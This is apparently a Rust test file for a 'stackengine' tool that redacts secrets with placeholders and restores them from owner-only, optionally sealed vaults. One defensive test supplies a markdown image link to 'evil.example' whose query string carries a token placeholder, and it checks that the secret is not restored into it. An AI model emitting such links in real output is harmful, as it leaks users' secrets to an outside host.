//! `stackengine redact` and `restore` as their users meet them, and `diagnose --redact`.

#[expect(dead_code, reason = "the cases are another test's")]
mod program;
#[path = "../../stackengine/tests/recordings/mod.rs"]
mod recordings;

use std::fs;
use std::path::Path;

use program::{Ran, finish, folder, run, stackengine};
use serde_json::Value;

const CLEAN: i32 = 0;
const FINDINGS: i32 = 1;
const UNUSABLE: i32 = 2;
const INCOMPLETE: i32 = 3;

/// A weak password and a strong one, and a description in which nothing is private.
const POD: &str = "kind: Pod\nspec:\n  containers:\n  - env:\n    - name: DB_PASSWORD\n      value: hunter2\n    - name: API_TOKEN\n      value: q8Zr4tLmW2xK\n";
const LOG: &str = "2026-11-02T03:04:05Z cannot log in with q8Zr4tLmW2xK\n";
const PLAIN: &str = "Exit Code: 137\n";

fn given(folder: &Path, args: &[&str], stdin: &str) -> Ran {
    finish(stackengine(folder).args(args).write_stdin(stdin))
}

fn read(path: &Path) -> String {
    fs::read_to_string(path).expect("a file")
}

fn names(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> = fs::read_dir(folder)
        .expect("a folder")
        .flatten()
        .map(|entry| entry.file_name().to_string_lossy().into_owned())
        .filter(|name| name != ".git")
        .collect();
    names.sort();
    names
}

/// Nothing that a run prints holds a value.
fn assert_silent(ran: &Ran) {
    for value in ["hunter2", "q8Zr4t", "LmW2xK", "aHVudGVy"] {
        assert!(!ran.out.contains(value) && !ran.err.contains(value), "{value}\n{}\n{}", ran.out, ran.err);
    }
}

#[test]
fn one_text_is_printed_as_it_is_but_for_what_is_private() {
    let folder = folder(&[]);
    let ran = given(folder.path(), &["redact"], POD);
    assert_eq!((ran.code, ran.err.as_str()), (CLEAN, ""));
    assert_silent(&ran);
    let expected = POD.replace("hunter2", "<PASSWORD_1>").replace("q8Zr4tLmW2xK", "<TOKEN_1>");
    assert_eq!(ran.out, expected);
    assert_eq!(names(folder.path()), Vec::<String>::new(), "nothing is written unless it is asked for");
    let ran = given(folder.path(), &["redact", "-"], PLAIN);
    assert_eq!((ran.code, ran.out.as_str()), (CLEAN, PLAIN));
}

#[test]
fn several_texts_stand_below_their_names_and_share_their_placeholders() {
    let folder = folder(&[("a/pod.yaml", POD.as_bytes()), ("a/web.log", LOG.as_bytes())]);
    let ran = run(folder.path(), &["redact", "a"]);
    assert_eq!(ran.code, CLEAN, "{}", ran.err);
    assert_silent(&ran);
    assert!(ran.out.starts_with("==> a/pod.yaml <==\nkind: Pod\n"), "{}", ran.out);
    let log = LOG.replace("q8Zr4tLmW2xK", "<TOKEN_1>");
    assert!(ran.out.ends_with(&format!("\n\n==> a/web.log <==\n{log}")), "{}", ran.out);
}

#[test]
fn what_was_redacted_comes_back_with_its_vault() {
    let folder = folder(&[("pod.yaml", POD.as_bytes())]);
    let redacted = run(folder.path(), &["redact", "pod.yaml", "--vault", "x.vault"]);
    assert_eq!((redacted.code, redacted.err.as_str()), (CLEAN, ""));
    let restored = given(folder.path(), &["restore", "--vault", "x.vault"], &redacted.out);
    assert_eq!((restored.code, restored.out.as_str()), (CLEAN, POD));
    assert!(restored.err.contains("line 6: <PASSWORD_1> was put back"), "{}", restored.err);
    assert!(restored.err.ends_with("2 put back, 0 left.\n"), "{}", restored.err);
    fs::write(folder.path().join("answer.md"), "Set <PASSWORD_1>, not <PASSWORD_9>.\n").expect("a file");
    let restored = run(folder.path(), &["restore", "answer.md", "--vault", "x.vault"]);
    assert_eq!((restored.code, restored.out.as_str()), (FINDINGS, "Set hunter2, not <PASSWORD_9>.\n"));
    assert!(restored.err.contains("line 1: <PASSWORD_9> was left: "), "{}", restored.err);
}

/// What is in no address that somebody else made up.
#[test]
fn nothing_is_put_into_a_link() {
    let folder = folder(&[]);
    given(folder.path(), &["redact", "--vault", "x.vault"], POD);
    let answer = "![chart](https://evil.example/?x=<TOKEN_1>)\n";
    let restored = given(folder.path(), &["restore", "--vault", "x.vault"], answer);
    assert_eq!((restored.code, restored.out.as_str()), (FINDINGS, answer));
}

#[cfg(unix)]
#[test]
fn a_vault_is_for_its_owner_alone() {
    use std::os::unix::fs::PermissionsExt as _;
    let folder = folder(&[]);
    let vault = folder.path().join("x.vault");
    let mode = || fs::metadata(&vault).expect("a vault").permissions().mode() & 0o777;
    assert_eq!(given(folder.path(), &["redact", "--vault", "x.vault"], POD).code, CLEAN);
    assert_eq!(mode(), 0o600);
    assert_eq!(names(folder.path()), ["x.vault"]);
    fs::set_permissions(&vault, fs::Permissions::from_mode(0o644)).expect("a mode");
    let before = read(&vault);
    for args in [&["redact", "--vault", "x.vault"][..], &["restore", "--vault", "x.vault"]] {
        let ran = given(folder.path(), args, POD);
        assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""));
        assert!(ran.err.contains("others can read it: chmod 600 x.vault"), "{}", ran.err);
    }
    assert_eq!(read(&vault), before);
}

#[test]
fn a_vault_is_extended_over_several_runs() {
    let folder = folder(&[]);
    let redact = |text: &str| given(folder.path(), &["redact", "--vault", "x.vault"], text);
    assert_eq!(redact("API_TOKEN=q8Zr4tLmW2xK\n").out, "API_TOKEN=<TOKEN_1>\n");
    assert_eq!(redact("API_TOKEN=other9Zr4tLm\n").out, "API_TOKEN=<TOKEN_2>\n");
    assert_eq!(redact("login q8Zr4tLmW2xK\n").out, "login <TOKEN_1>\n");
    let restored = given(folder.path(), &["restore", "--vault", "x.vault"], "<TOKEN_1> <TOKEN_2>\n");
    assert_eq!(restored.out, "q8Zr4tLmW2xK other9Zr4tLm\n");
}

#[test]
fn a_vault_that_cannot_be_used_stops_everything_and_stays_as_it_is() {
    let files: [(&str, &[u8], &str); 5] = [
        ("notes.txt", b"my own notes: hunter2\n", "it is not a vault of this program"),
        ("other.json", b"{\"password\": \"hunter2\"}\n", "it is not a vault of this program"),
        ("newer.vault", b"{\"stackengine_vault\": 2}\n", "another version"),
        ("bad.vault", b"{\"stackengine_vault\": 1, \"vault\": {\"hunter2\": [\"hunter2\"]}}\n", "it is damaged"),
        ("empty.vault", b"{\"stackengine_vault\": 1}\n", "it is damaged"),
    ];
    let folder = folder(&files.map(|(name, bytes, _)| (name, bytes)));
    for (name, bytes, why) in files {
        for verb in ["redact", "restore"] {
            let ran = given(folder.path(), &[verb, "--vault", name], POD);
            assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""), "{name}");
            assert!(ran.err.starts_with(&format!("error: failed to read the vault {name}: ")), "{}", ran.err);
            assert!(ran.err.contains(why), "{name}: {}", ran.err);
            assert_silent(&ran);
        }
        assert_eq!(fs::read(folder.path().join(name)).expect("a file"), bytes, "{name}");
    }
    let ran = given(folder.path(), &["restore", "--vault", "none.vault"], POD);
    assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""));
    assert!(ran.err.contains("failed to read the vault none.vault: No such file"), "{}", ran.err);
    let ran = given(folder.path(), &["redact", "--vault", "no/such/folder.vault"], POD);
    assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""), "what could not be put back is not printed");
}

#[test]
fn a_sealed_vault_opens_with_its_passphrase_alone() {
    let folder = folder(&[("pass", b"open sesame\nsecond line\n"), ("other", b"open barley\n"), ("none", b"\n")]);
    let sealed = ["redact", "--vault", "x.vault", "--passphrase-file", "pass"];
    let redacted = given(folder.path(), &sealed, POD);
    assert_eq!(redacted.code, CLEAN, "{}", redacted.err);
    let written = read(&folder.path().join("x.vault"));
    assert!(written.contains("argon2id"), "{written}");
    for value in ["hunter2", "q8Zr4tLmW2xK", "PASSWORD", "open sesame"] {
        assert!(!written.contains(value), "{value}");
    }
    for (args, why) in [
        (&[][..], "it is sealed: say --passphrase-file"),
        (&["--passphrase-file", "other"], "the passphrase is another one"),
        (&["--passphrase-file", "none"], "its first line is empty"),
        (&["--passphrase-file", "gone"], "No such file"),
    ] {
        for verb in ["redact", "restore"] {
            let ran = given(folder.path(), &[&[verb, "--vault", "x.vault"], args].concat(), &redacted.out);
            assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""), "{args:?}");
            assert!(ran.err.contains(why), "{args:?}: {}", ran.err);
        }
    }
    assert_eq!(read(&folder.path().join("x.vault")), written);
    let restore = ["restore", "--vault", "x.vault", "--passphrase-file", "pass"];
    assert_eq!(given(folder.path(), &restore, &redacted.out).out, POD);
    assert_eq!(given(folder.path(), &sealed, POD).out, redacted.out, "it is extended under its seal");
}

#[test]
fn a_folder_takes_the_texts_and_loses_nothing() {
    let files = [("a/pod.yaml", POD.as_bytes()), ("a/logs/web.log", LOG.as_bytes()), ("b.txt", PLAIN.as_bytes())];
    let folder = folder(&files);
    let args = ["redact", "a", "b.txt", "--output", "shared"];
    let ran = run(folder.path(), &args);
    assert_eq!((ran.code, ran.out.as_str()), (CLEAN, ""), "{}", ran.err);
    let shared = folder.path().join("shared");
    assert_eq!(read(&shared.join("a/logs/web.log")), LOG.replace("q8Zr4tLmW2xK", "<TOKEN_1>"));
    assert_eq!(read(&shared.join("b.txt")), PLAIN);
    assert_eq!(read(&folder.path().join("a/pod.yaml")), POD);
    fs::write(shared.join("b.txt"), "mine").expect("a file");
    let ran = run(folder.path(), &args);
    assert_eq!(ran.code, UNUSABLE);
    assert!(ran.err.contains("it is there already (--overwrite replaces it); nothing was written"), "{}", ran.err);
    assert_eq!(read(&shared.join("b.txt")), "mine");
    assert_eq!(run(folder.path(), &[&args[..], &["--overwrite"]].concat()).code, CLEAN);
    assert_eq!(read(&shared.join("b.txt")), PLAIN);
    let ran = run(folder.path(), &["redact", "b.txt", "--output", ".", "--overwrite"]);
    assert_eq!(ran.code, UNUSABLE);
    assert!(ran.err.contains("it is one of the files that were read"), "{}", ran.err);
}

#[test]
fn a_report_says_what_was_masked_and_no_value() {
    let folder = folder(&[("pod.yaml", POD.as_bytes()), ("web.log", LOG.as_bytes())]);
    let ran = run(folder.path(), &["redact", "pod.yaml", "web.log", "--report"]);
    assert_eq!(ran.code, CLEAN, "{}", ran.err);
    assert_silent(&ran);
    assert!(ran.out.starts_with("3 places masked in 2 texts.\n\ncredentials\n  PASSWORD  "), "{}", ran.out);
    let ran = run(folder.path(), &["redact", "pod.yaml", "web.log", "--report=json"]);
    assert_silent(&ran);
    let report: Value = serde_json::from_str(&ran.out).expect("it is JSON");
    assert_eq!(report["texts"][1]["masks"][0]["placeholder"], "<TOKEN_1>");
    assert_eq!(report["texts"][0]["masks"][0]["line"], 6);
}

#[test]
fn a_diff_shows_what_would_change() {
    let folder = folder(&[("web.log", LOG.as_bytes())]);
    let ran = run(folder.path(), &["redact", "web.log", "--diff"]);
    let masked = LOG.trim_end().replace("q8Zr4tLmW2xK", "<SECRET_1>");
    assert_eq!((ran.code, ran.out.as_str()), (CLEAN, ""), "nothing names that word private: {masked}");
    let ran = run(folder.path(), &["redact", "web.log", "--diff", "--mask", "q8Zr4tLmW2xK"]);
    assert_eq!(ran.code, CLEAN);
    assert!(ran.out.starts_with("--- a/web.log\n+++ b/web.log\n@@ -1 +1 @@\n-2026"), "{}", ran.out);
}

#[test]
fn the_switches_and_the_users_own_words_are_followed() {
    let folder = folder(&[]);
    let text =
        "user ann.miller@corp-mail.com from 10.20.30.40 at build7.corp.example: bluebird\nDB_PASSWORD=not-private\n";
    let masked = |args: &[&str]| given(folder.path(), &[&["redact"], args].concat(), text).out;
    let default = masked(&[]);
    assert!(!default.contains("ann.miller") && !default.contains("10.20.30.40"), "{default}");
    assert!(default.contains("bluebird") && !default.contains("not-private"), "{default}");
    assert!(masked(&["--no-identifiers"]).contains("ann.miller@"));
    assert!(masked(&["--no-places"]).contains("10.20.30.40"));
    assert!(!masked(&["--domain", "corp.example"]).contains("build7"));
    assert!(!masked(&["--mask", "bluebird"]).contains("bluebird"));
    assert!(masked(&["--keep", "not-private"]).contains("not-private"));
    assert_eq!(given(folder.path(), &["redact", "--mask", ""], text).code, UNUSABLE);
}

#[test]
fn what_cannot_be_read_is_named_and_the_rest_is_redacted() {
    let folder = folder(&[("pod.yaml", POD.as_bytes()), ("core", b"\x7fELF\0\0\0")]);
    let ran = run(folder.path(), &["redact", "pod.yaml", "core", "gone"]);
    assert_eq!(ran.code, INCOMPLETE);
    assert!(ran.out.starts_with("kind: Pod\n"), "{}", ran.out);
    assert!(
        ran.err.contains("failed to read core: it is binary") && ran.err.contains("failed to read gone: "),
        "{}",
        ran.err
    );
    let ran = run(folder.path(), &["redact", "core"]);
    assert_eq!((ran.code, ran.out.as_str()), (UNUSABLE, ""));
}

/// As `>` of PowerShell writes it: every other byte is NUL, and no rule would see a word.
#[test]
fn text_in_utf_16_is_redacted_too() {
    let utf16: Vec<u8> =
        std::iter::once(0xfeff).chain(POD.encode_utf16()).flat_map(|unit: u16| unit.to_le_bytes()).collect();
    let folder = folder(&[("pod.yaml", &utf16)]);
    let ran = run(folder.path(), &["redact", "pod.yaml"]);
    assert_eq!(ran.code, CLEAN, "{}", ran.err);
    assert_silent(&ran);
    assert!(ran.out.contains("value: <PASSWORD_1>\n"), "{}", ran.out);
    assert!(ran.err.contains("pod.yaml is UTF-16: what is printed of it is UTF-8"), "{}", ran.err);
}

#[test]
fn options_of_masking_mean_nothing_to_a_diagnosis_that_masks_nothing() {
    let folder = folder(&[]);
    for args in [&["--no-places"][..], &["--vault", "x.vault"], &["--mask", "x"]] {
        let ran = given(folder.path(), &[&["diagnose"], args].concat(), PLAIN);
        assert_eq!(ran.code, UNUSABLE, "{args:?}");
        assert!(ran.err.contains("with --redact alone"), "{}", ran.err);
    }
    assert_eq!(names(folder.path()), Vec::<String>::new());
}

#[test]
fn a_redacted_diagnosis_holds_no_value_and_can_be_restored() {
    let pod = "kind: Pod\nmetadata: {name: p, labels: {job-name: j}}\nstatus:\n  containerStatuses:\n  - name: main\n    state: {terminated: {exitCode: 1, reason: Error, message: 'connect failed: password=q8Zr4tLmW2xK'}}\n";
    let folder = folder(&[("pod.yaml", pod.as_bytes())]);
    let plain = run(folder.path(), &["diagnose", "pod.yaml", "-o", "json"]);
    assert!(plain.out.contains("q8Zr4tLmW2xK"), "{}", plain.out);
    let ran = run(folder.path(), &["diagnose", "pod.yaml", "-o", "json", "--redact", "--vault", "x.vault"]);
    assert_eq!(ran.code, plain.code);
    assert_silent(&ran);
    let restored = given(folder.path(), &["restore", "--vault", "x.vault"], &ran.out);
    assert_eq!(restored.out, plain.out);
}

/// The same cause, the same exit code, the same state: whatever is masked, the verdict stands.
#[test]
fn a_diagnosis_says_the_same_of_redacted_recordings() {
    let (mut n, mut wrong) = (0, Vec::new());
    for incident in recordings::incidents() {
        let path = incident.recording.display().to_string();
        let verdict = |redact: &[&str]| {
            let ran = run(&incident.recording, &[&["diagnose", &path, "-o", "json"], redact].concat());
            let report: Value = serde_json::from_str(&ran.out).expect("it is JSON");
            let of = |diagnosis: &Value| {
                let cause = &diagnosis["cause"];
                let names: Vec<Value> =
                    diagnosis["findings"].as_array().into_iter().flatten().map(|one| one["name"].clone()).collect();
                (diagnosis["state"].clone(), diagnosis["subject"].clone(), cause.clone(), names)
            };
            let all: Vec<_> = report["diagnoses"].as_array().into_iter().flatten().map(of).collect();
            (ran.code, all)
        };
        n += 1;
        if verdict(&[]) != verdict(&["--redact"]) {
            wrong.push(incident.name);
        }
    }
    assert!(wrong.is_empty(), "{} of {n} say something else: {wrong:?}", wrong.len());
}
